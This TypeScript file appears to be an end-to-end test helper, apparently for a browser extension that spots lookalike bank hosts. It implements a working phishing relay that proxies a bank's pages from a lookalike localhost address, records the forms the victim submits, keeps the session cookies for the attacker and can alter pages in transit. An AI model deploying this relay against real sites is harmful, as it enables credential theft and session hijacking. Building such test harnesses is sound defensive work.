import { createServer, type IncomingMessage, type OutgoingHttpHeaders, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { Visitor } from '../../e2e/flows/visitor.ts';

/**
 * The relay of today: a server at an address of the attacker's that shows every page of the bank's as its own while it is looked
 * at, reads what is typed into them, and keeps the session that comes of it.
 */
export interface Relay {
  /** Where the victim is led. */
  readonly url: string;
  /** The forms that the victim has sent. */
  readonly typed: readonly URLSearchParams[];
  /** The attacker at the bank, in the session that the victim has opened. The victim never gets its cookies. */
  readonly attacker: Visitor;
  /** Changes the pages on their way to the victim. */
  alter(change: (html: string) => string): void;
  close(): Promise<void>;
}

/**
 * Hosts for the relay: a name like the bank's, and its own name, which a browser tells apart by the port alone; with the number of
 * pages that the extension's reader comes to there.
 */
export const lookalikes = (institution: string) => [
  { host: `${institution}-bank.localhost`, reached: 0 },
  { host: `${institution}.localhost`, reached: 1 },
];

/** Headers of one connection, and those that the relay makes anew. */
const OWN = ['connection', 'transfer-encoding', 'content-length', 'accept-encoding', 'cookie', 'set-cookie'];

export async function startRelay(bankUrl: string, host: string): Promise<Relay> {
  const bank = new URL(bankUrl);
  const attacker = new Visitor(bankUrl);
  const typed: URLSearchParams[] = [];
  let alteration = (html: string) => html;
  const server = createServer((asked, answer) => void pass(asked, answer).catch(() => answer.destroy()));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const here = new URL(`http://${host}:${(server.address() as AddressInfo).port}`);

  const asOwn = (from: string) => from.replaceAll(bank.origin, here.origin).replaceAll(bank.host, here.host);
  const asBanks = (from: string) => from.replaceAll(here.origin, bank.origin);

  async function pass(asked: IncomingMessage, answer: ServerResponse): Promise<void> {
    const { method = 'GET', url = '/' } = asked;
    const sent = await text(asked);
    if (method === 'POST') typed.push(new URLSearchParams(sent));
    // As the victim's browser sent them, but from the bank's own page.
    const { status, headers, body } = await attacker.ask(method, url, passedOn(asked.headers, asBanks), sent);
    const isPage = /^text\/html/.test(String(headers['content-type']));
    answer
      .writeHead(status, passedOn(headers, asOwn))
      .end(isPage ? alteration(asOwn(body.toString())) : body);
  }

  return {
    url: here.origin,
    typed,
    attacker,
    alter: (change) => {
      alteration = change;
    },
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

const passedOn = (headers: OutgoingHttpHeaders, as: (value: string) => string): OutgoingHttpHeaders =>
  Object.fromEntries(
    Object.entries(headers).flatMap(([name, value]) =>
      OWN.includes(name) || value === undefined ? [] : [[name, as(String(value))]],
    ),
  );
